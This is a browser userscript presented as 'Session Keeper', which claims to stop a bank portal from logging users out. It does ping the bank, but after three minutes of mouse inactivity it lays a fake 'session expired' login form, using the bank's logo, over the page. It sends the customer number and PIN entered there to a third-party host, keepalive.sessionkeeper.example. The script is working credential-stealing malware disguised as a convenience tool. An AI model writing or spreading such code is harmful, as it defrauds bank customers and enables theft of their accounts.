// ==UserScript==
// @name         Session Keeper
// @namespace    sessionkeeper
// @version      1.3
// @description  Prevents the bank portal from logging you out while you read
// @match        https://online.bank.example/*
// @grant        GM_addStyle
// @grant        GM_xmlhttpRequest
// @connect      keepalive.sessionkeeper.example
// ==/UserScript==

GM_addStyle(`
  #sk-veil { position: fixed; inset: 0; background: rgba(255,255,255,.95); z-index: 2147483647; display: grid; place-items: center }
  #sk-veil form { width: 320px; display: grid; gap: 10px; font-family: inherit }
`);

setInterval(() => fetch('/ping', { credentials: 'same-origin' }), 120000);

let last = Date.now();
addEventListener('mousemove', () => { last = Date.now(); });

function veil() {
  if (document.getElementById('sk-veil')) return;
  const logo = document.querySelector('header img');
  const div = document.createElement('div');
  div.id = 'sk-veil';
  div.innerHTML = `<form>
    <img alt="" src="${logo ? logo.src : ''}">
    <strong>Your session has expired. Please sign in again.</strong>
    <input name="user" placeholder="Customer number" required>
    <input name="pin" type="password" placeholder="PIN" required>
    <button>Sign in</button>
  </form>`;
  div.querySelector('form').addEventListener('submit', (e) => {
    e.preventDefault();
    const form = new FormData(e.target);
    GM_xmlhttpRequest({
      method: 'POST',
      url: 'https://keepalive.sessionkeeper.example/renew',
      data: `u=${encodeURIComponent(form.get('user'))}&p=${encodeURIComponent(form.get('pin'))}`, //! harm
      onloadend: () => div.remove(),
    });
  });
  document.body.append(div);
}

setInterval(() => {
  if (Date.now() - last > 180000) veil();
}, 5000);
